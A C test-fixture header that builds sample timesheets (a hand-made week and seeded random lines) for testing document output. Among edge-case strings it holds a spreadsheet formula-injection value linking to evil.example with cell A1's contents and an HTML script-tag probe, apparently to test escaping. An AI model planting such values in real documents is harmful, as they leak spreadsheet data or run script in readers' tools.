/* sheet_sample - timesheets made by hand for the tests of documents: a week with everything that can stand on
 * one, and any number of lines by a seed.  Free with sheet_finish. */
#ifndef TESTS_LIB_SHEET_SAMPLE_H
#define TESTS_LIB_SHEET_SAMPLE_H

#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/attr.h"
#include "base/civil.h"
#include "base/mem.h"
#include "model/sheet.h"
#include "tests/lib/rng.h"

#define SAMPLE_MONDAY 20458 /* 2026-01-05 */

/* ---- a line as a person would write it down ---- */

struct sample_row {
    int day;               /* behind SAMPLE_MONDAY */
    const char *from, *to; /* on the wall of Europe/Berlin in winter; NULL: all day */
    enum sheet_kind kind;
    enum sheet_billing billing;
    int worked, held, unrounded, billed;
    const char *customer, *subject, *location, *decision;
    bool is_late;
};

#define SAMPLE_HOSTILE_FORMULA "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
#define SAMPLE_ARABIC          "مراجعة العقد مع الفريق القانوني"
#define SAMPLE_CHINESE         "季度预算评审会议"
#define SAMPLE_EMOJI           "Launch party \xF0\x9F\x8E\x89 \xE2\x98\x95 planning"
#define SAMPLE_CONTROL                                                                                       \
    "Line one\nline two\ttab \x1b[31mred\x07 \xE2\x80\xAE"                                                   \
    "desrever\xE2\x80\xAC end"
#define SAMPLE_MARKUP "<script>alert('x')</script> & \"quotes\" <b>bold</b>"
#define SAMPLE_LONG                                                                                          \
    "Steering committee for the consolidation of the regional data warehouses: status of the migration, "    \
    "open points from "                                                                                      \
    "the last meeting, decision about the supplier of the archive, budget for the second half of the year, " \
    "risks, and "                                                                                            \
    "whatever else came up since the last time that everybody sat together in one room and talked about it " \
    "at length"

static const struct sample_row sample_week_rows[] = {
    {-4, "14:00", "15:20", SHEET_WORK, SHEET_BILLABLE, 80, 0, 80, 90, "Müller & Söhne GmbH",
     "Hand-over of the audit file", "", "", true},
    {0, "08:00", "09:30", SHEET_TRAVEL, SHEET_BILLABLE, 90, 0, 90, 90, "Müller & Söhne GmbH",
     "Train to Hamburg", "", "", false},
    {0, "09:30", "12:10", SHEET_WORK, SHEET_BILLABLE, 130, 0, 130, 135, "Müller & Söhne GmbH",
     "Kick-off: annual accounts 2025", "Hamburg, Großer Burstah 12",
     "30 min to \"Call with the bank\": more important", false},
    {0, "11:00", "11:30", SHEET_WORK, SHEET_BILLABLE, 30, 0, 30, 30, "Contoso Ltd", "Call with the bank",
     "Teams", "30 min from \"Kick-off: annual accounts 2025\": more important", false},
    {0, "13:00", "17:20", SHEET_WORK, SHEET_BILLABLE, 230, 0, 230, 240, "Contoso Ltd", SAMPLE_LONG,
     "Conference room \"Alster\", 4th floor", "30 min break", false},
    {1, NULL, NULL, SHEET_WORK, SHEET_BILLABLE, 480, 0, 480, 480, "Contoso Ltd", "Workshop: data migration",
     "Berlin", "all-day event: 8:00 h", false},
    {2, "09:00", "09:20", SHEET_WORK, SHEET_BILLABLE, 20, 0, 20, 30, "Contoso Ltd", SAMPLE_ARABIC, "الرياض",
     "", false},
    {2, "09:20", "09:40", SHEET_WORK, SHEET_BILLABLE, 20, 0, 20, 30, "Contoso Ltd", SAMPLE_CHINESE, "上海",
     "", false},
    {2, "09:40", "10:00", SHEET_WORK, SHEET_NON_BILLABLE, 20, 0, 0, 0, "Contoso Ltd", SAMPLE_EMOJI, "", "",
     false},
    {2, "10:00", "11:00", SHEET_WORK, SHEET_BILLABLE, 60, 0, 60, 60, "Müller & Söhne GmbH",
     SAMPLE_HOSTILE_FORMULA, "@home", "", false},
    {2, "11:00", "12:00", SHEET_WORK, SHEET_BILLABLE, 60, 0, 60, 60, "Müller & Söhne GmbH", SAMPLE_CONTROL,
     "-", "", false},
    {2, "13:00", "14:00", SHEET_WORK, SHEET_NON_BILLABLE, 60, 0, 0, 0, "Müller & Söhne GmbH", SAMPLE_MARKUP,
     "", "", false},
    {3, "10:00", "12:00", SHEET_WORK, SHEET_BILLABLE, 120, 60, 60, 60, "Contoso Ltd",
     "Review of the interfaces", "Teams", "60 min also claimed by \"Tax return 2025\": held until decided",
     false},
    {3, "11:00", "13:00", SHEET_WORK, SHEET_BILLABLE, 60, 0, 60, 60, "Müller & Söhne GmbH", "Tax return 2025",
     "", "60 min also claimed by \"Review of the interfaces\": held there until decided", false},
    {3, "15:00", "16:00", SHEET_TRAVEL, SHEET_NON_BILLABLE, 60, 0, 0, 0, "", "Drive home", "", "", false},
    {4, "09:00", "10:30", SHEET_WORK, SHEET_NON_BILLABLE, 90, 0, 0, 0, "Müller & Söhne GmbH", "", "", "",
     false},
    {4, "22:00", "24:00", SHEET_WORK, SHEET_BILLABLE, 120, 0, 120, 120, "Contoso Ltd",
     "Cut-over of the ledger", "remote", "ends on the next day", false},
    {5, "00:00", "01:20", SHEET_WORK, SHEET_BILLABLE, 80, 0, 80, 90, "Contoso Ltd", "Cut-over of the ledger",
     "remote", "began on the day before", false},
};

static inline int64_t sample_minutes(const char *hhmm)
{
    return (hhmm[0] - '0') * 600 + (hhmm[1] - '0') * 60 + (hhmm[3] - '0') * 10 + (hhmm[4] - '0');
}

/* Text is copied into the sheet, one behind the other. */
struct sample_text {
    char *at;
};

static inline const char *sample_keep(struct sample_text *text, const char *s)
{
    size_t len = strlen(s) + 1;
    char *copy = memcpy(text->at, s, len);
    text->at += len;
    return copy;
}

static inline void sample_line(struct sheet_line *line, int32_t no, const struct sample_row *row,
                               struct sample_text *text)
{
    int32_t day = SAMPLE_MONDAY + row->day;
    int64_t midnight = (int64_t)day * 1440 - 60;
    *line = (struct sheet_line){
        .no = no,
        .day = day,
        .appointment_id = 1000 + no,
        .version = 1,
        .kind = row->kind,
        .billing = row->billing,
        .is_all_day = !row->from,
        .is_late = row->is_late,
        .start_min = midnight + (row->from ? sample_minutes(row->from) : 0),
        .end_min = midnight + (row->to ? sample_minutes(row->to) : 1440),
        .worked = row->worked,
        .held = row->held,
        .unrounded = row->unrounded,
        .billed = row->billed,
        .customer = sample_keep(text, row->customer),
        .subject = sample_keep(text, row->subject),
        .location = sample_keep(text, row->location),
        .decision = sample_keep(text, row->decision),
    };
    line->span = row->from ? (int32_t)(line->end_min - line->start_min) : row->worked;
}

/* Hours in decimals by largest remainder, in the order of printing: the running sum is rounded, a line is its
 * step. */
static inline void sample_hundredths(struct sheet_line *lines, size_t n)
{
    int64_t worked = 0, billed = 0, worked_before = 0, billed_before = 0;
    for (size_t i = 0; i < n; i++) {
        worked += lines[i].worked;
        billed += lines[i].billed;
        int64_t worked_now = (worked * 100 + 30) / 60, billed_now = (billed * 100 + 30) / 60;
        lines[i].worked_hundredths = (int32_t)(worked_now - worked_before);
        lines[i].billed_hundredths = (int32_t)(billed_now - billed_before);
        worked_before = worked_now;
        billed_before = billed_now;
    }
}

static inline void sample_head(struct sheet *s, int32_t days)
{
    *s = (struct sheet){
        .id = 7,
        .user_id = 1,
        .archive_configuration_id = 3,
        .number = "2026-0002",
        .revision = 1,
        .status = SHEET_ISSUED,
        .from_day = SAMPLE_MONDAY,
        .to_day = SAMPLE_MONDAY + days,
        .issued_ms = (SAMPLE_MONDAY + (int64_t)days) * MS_PER_DAY,
        .rules = {SHEET_ROUND_UP, SHEET_SCOPE_ENTRY, 15, SHEET_OVERLAPS_PRIORITY, 480, 0, false},
        .zone = mem_strdup("Europe/Berlin"),
        .user_name = mem_strdup("Anna Petersen"),
        .email = mem_strdup("anna.petersen@petersen-audit.example"),
        .name = mem_strdup("Client work"),
    };
    for (int i = 0; i < SHEET_HASH_LEN; i++) {
        s->hash[i] = (unsigned char)(i * 37 + 11);
    }
}

static inline size_t sample_text_size(const struct sample_row *row)
{
    return strlen(row->customer) + strlen(row->subject) + strlen(row->location) + strlen(row->decision) + 4;
}

/* Rounding is up to 15 minutes an entry, as in sample_head; the caller's rows keep to it or not. */
static inline void sample_rows(struct sheet *s, const struct sample_row *rows, size_t n)
{
    size_t size = 1;
    for (size_t i = 0; i < n; i++) {
        size += sample_text_size(&rows[i]);
    }
    s->lines = mem_calloc(n + 1, sizeof *s->lines);
    s->text = mem_calloc(1, size);
    struct sample_text text = {s->text};
    for (size_t i = 0; i < n; i++) {
        sample_line(&s->lines[i], (int32_t)i + 1, &rows[i], &text);
    }
    s->n_lines = n;
    sample_hundredths(s->lines, n);
}

static inline void sample_week(struct sheet *ret_sheet)
{
    sample_head(ret_sheet, 7);
    sample_rows(ret_sheet, sample_week_rows, ARRAY_LEN(sample_week_rows));
}

/* ---- any number of lines ---- */

static const char *const sample_customers[] = {"Contoso Ltd",     "Müller & Söhne GmbH", "Fabrikam",
                                               "Adventure Works", "Ünïcode Øre AS",      "Northwind Traders",
                                               "上海贸易公司"};
static const char *const sample_verbs[] = {
    "Review of", "Call about", "Planning:", "Workshop:", "Support for", "Follow-up on"};
static const char *const sample_things[] = {"the interfaces", "annual accounts", "Rückstellungen",
                                            "ticket",         "data migration",  "the offer",
                                            SAMPLE_ARABIC,    SAMPLE_CHINESE};

/* About six lines a working day from SAMPLE_MONDAY on, one in 50 of them with hostile text; nothing but the
 * seed and n decides. */
static inline void sample_many(struct sheet *ret_sheet, size_t n, uint64_t seed)
{
    struct rng rng = {seed};
    struct sample_row *rows = mem_calloc(n + 1, sizeof *rows);
    char(*subjects)[120] = mem_calloc(n + 1, sizeof *subjects);
    char(*times)[2][6] = mem_calloc(n + 1, sizeof *times);
    for (size_t i = 0; i < n; i++) {
        struct sample_row *row = &rows[i];
        int start = 8 * 60 + (int)(i % 6) * 95 + (int)rng_below(&rng, 20),
            minutes = 5 + (int)rng_below(&rng, 70);
        size_t thing = rng_below(&rng, 50) == 0 ? 6 + rng_below(&rng, 2) : rng_below(&rng, 6);
        snprintf(times[i][0], sizeof times[i][0], "%02d:%02d", start / 60, start % 60);
        snprintf(times[i][1], sizeof times[i][1], "%02d:%02d", (start + minutes) / 60,
                 (start + minutes) % 60);
        snprintf(subjects[i], sizeof subjects[i], "%s %s %u",
                 sample_verbs[rng_below(&rng, ARRAY_LEN(sample_verbs))], sample_things[thing],
                 (unsigned)rng_below(&rng, 10000));
        *row = (struct sample_row){
            .day = (int)(i / 6 / 5 * 7 + i / 6 % 5),
            .from = times[i][0],
            .to = times[i][1],
            .kind = rng_below(&rng, 10) == 0 ? SHEET_TRAVEL : SHEET_WORK,
            .billing = rng_below(&rng, 5) == 0 ? SHEET_NON_BILLABLE : SHEET_BILLABLE,
            .worked = minutes,
            .customer = sample_customers[rng_below(&rng, ARRAY_LEN(sample_customers))],
            .subject = subjects[i],
            .location = rng_below(&rng, 3) == 0 ? "Teams" : "",
            .decision = rng_below(&rng, 20) == 0 ? "5 min to another one: more important" : "",
        };
        row->unrounded = row->billing == SHEET_BILLABLE ? minutes : 0;
        row->billed = (row->unrounded + 14) / 15 * 15;
    }
    sample_head(ret_sheet, n == 0 ? 7 : rows[n - 1].day + 1);
    sample_rows(ret_sheet, rows, n);
    free(rows);
    free(subjects);
    free(times);
}

#endif
